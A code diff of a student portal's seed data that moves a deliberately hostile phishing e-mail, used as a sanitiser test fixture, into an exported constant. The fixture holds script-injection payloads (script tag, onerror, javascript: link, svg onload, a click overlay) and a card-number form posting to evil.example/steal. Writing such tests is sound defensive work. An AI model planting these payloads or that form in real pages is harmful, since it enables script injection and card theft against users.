@@ -269,8 +269,23 @@ export const HOSTILE_ARTICLE_SLUG = 'phishing-alert-fake-payment-emails';
 const inlinePicture = (slug: string) =>
   `data:image/svg+xml,${encodeURIComponent(illustrationSvg('news', slug) ?? '')}`;
 
-const articleImage = (label: string) =>
-  `<figure><img src="${inlinePicture(slugify(label))}" alt="${label}" width="640" height="360"><figcaption>${label}</figcaption></figure>`;
+/** `label` names the picture; `caption` is its text in the article's language (English by default). */
+export const articleImage = (label: string, caption = label) =>
+  `<figure><img src="${inlinePicture(slugify(label))}" alt="${caption}" width="640" height="360"><figcaption>${caption}</figcaption></figure>`;
+
+/**
+ * A forwarded phishing mail pasted as it came: the markup is hostile on purpose, and the portal's sanitiser must
+ * strip every active part of it (tests check the flag never gets set). Quoted as received in every language.
+ */
+export const PHISHING_MAIL = `<blockquote>
+<script>window.${HOSTILE_FLAG} = true; alert('hacked');</script>
+<img src="x" onerror="window.${HOSTILE_FLAG} = true" alt="Your invoice">
+<p>Dear student, your account is on hold. <a href="javascript:window.${HOSTILE_FLAG}=true">Verify your account</a> within 24 hours.</p>
+<iframe src="https://evil.example/pay"></iframe>
+<form action="https://evil.example/steal"><input name="card" placeholder="Card number"><button>Pay now</button></form>
+<p style="position:fixed;inset:0;background:red" onclick="window.${HOSTILE_FLAG} = true">Click anywhere to continue</p>
+<svg onload="window.${HOSTILE_FLAG} = true"><circle r="4"></circle></svg>
+</blockquote>`;
 
 export function seedNews(): NewsArticle[] {
   const article = (
@@ -310,19 +325,9 @@ export function seedNews(): NewsArticle[] {
       '2026-11-16',
       'Safety',
       'Some students received e-mails asking them to pay invoices on a fake site. Here is how to spot them.',
-      // A forwarded phishing mail pasted as it came: the markup below is hostile on purpose, and the
-      // portal's sanitiser must strip every active part of it (tests check the flag never gets set).
       `<p>Several students have received e-mails that look like ours and ask them to pay an invoice on another website. <strong>We never ask you to pay anywhere but in this portal.</strong></p>
 <p>This is what one of those e-mails contained:</p>
-<blockquote>
-<script>window.${HOSTILE_FLAG} = true; alert('hacked');</script>
-<img src="x" onerror="window.${HOSTILE_FLAG} = true" alt="Your invoice">
-<p>Dear student, your account is on hold. <a href="javascript:window.${HOSTILE_FLAG}=true">Verify your account</a> within 24 hours.</p>
-<iframe src="https://evil.example/pay"></iframe>
-<form action="https://evil.example/steal"><input name="card" placeholder="Card number"><button>Pay now</button></form>
-<p style="position:fixed;inset:0;background:red" onclick="window.${HOSTILE_FLAG} = true">Click anywhere to continue</p>
-<svg onload="window.${HOSTILE_FLAG} = true"><circle r="4"></circle></svg>
-</blockquote>
+${PHISHING_MAIL}
 <p>If you get one, do not click anything. Report it through the <a href="/panel/support-center">support centre</a> and read the <a href="https://www.ncsc.gov.uk/collection/phishing-scams">National Cyber Security Centre's advice on phishing</a>.</p>`,
     ),
     article(
